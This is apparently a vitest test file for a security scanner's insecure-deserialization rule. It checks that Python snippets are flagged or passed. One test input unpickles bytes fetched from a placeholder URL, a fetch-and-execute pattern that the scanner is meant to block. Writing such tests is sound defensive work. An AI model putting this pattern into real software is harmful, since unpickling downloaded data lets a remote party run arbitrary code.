import { describe, expect, it } from 'vitest';
import { run } from '../../../test/helpers.js';
import { withScript } from '../../../test/rule-cases.js';

describe('code-deserialization', () => {
  it('pickle of downloaded bytes is fetched-code execution; of a parameter, HIGH', async () => {
    const net = await run(withScript('m.py', 'import pickle, requests\nobj = pickle.loads(requests.get("https://x.example/m.pkl").content)\n'));
    expect(net.findings.some((f) => f.ruleId === 'EXEC_FETCHED_CODE')).toBe(true);
    expect(net.blocked).toBe(true);
    const param = await run(withScript('m.py', 'import pickle\ndef load(blob):\n    return pickle.loads(blob)\n'));
    expect(param.findings.find((f) => f.ruleId === 'CODE_INSECURE_DESERIALIZATION')!.severity).toBe('HIGH');
    const safe = await run(withScript('c.py', 'import yaml\ndef cfg(t):\n    return yaml.load(t, Loader=yaml.SafeLoader)\n'));
    expect(safe.findings.filter((f) => f.ruleId === 'CODE_INSECURE_DESERIALIZATION')).toEqual([]);
  });
});
